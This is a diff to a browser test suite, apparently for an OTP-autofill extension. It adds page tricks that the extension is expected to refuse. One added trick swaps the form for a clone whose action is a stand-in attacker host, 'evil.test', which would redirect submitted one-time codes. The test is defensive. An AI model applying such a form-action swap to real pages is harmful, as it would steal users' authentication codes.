@@ -147,7 +147,8 @@ test('X-C04 a field that moves, or is hidden, after it was found gets nothing', 
     `otp.style.opacity = '0'`,
     `otp.style.cssText = 'position: fixed; left: 600px; top: 500px'`,
     `otp.disabled = true`,
-    `otp.replaceWith(otp.cloneNode())`,
+    `otp.remove()`,
+    `otp.form.replaceWith(Object.assign(otp.form.cloneNode(true), { action: 'https://evil.test/' }))`,
   ];
   for (const trick of tricks) {
     await test.step(trick, async () => {
@@ -169,7 +170,11 @@ test('X-C04 a field that moves, or is hidden, after it was found gets nothing', 
       await page.evaluate(`{ const otp = document.querySelector('#otp'); ${trick}; }`);
       await extension.worker.evaluate('resumed.resolve()');
       expect(await outcome).toEqual({ status: 'refused', code: 'page_changed' });
-      expect(await page.locator('#otp').inputValue()).toBe('');
+      expect(
+        await page
+          .locator('#otp')
+          .evaluateAll((fields: HTMLInputElement[]) => fields.map(({ value }) => value).join('')),
+      ).toBe('');
       await popup.close();
     });
   }
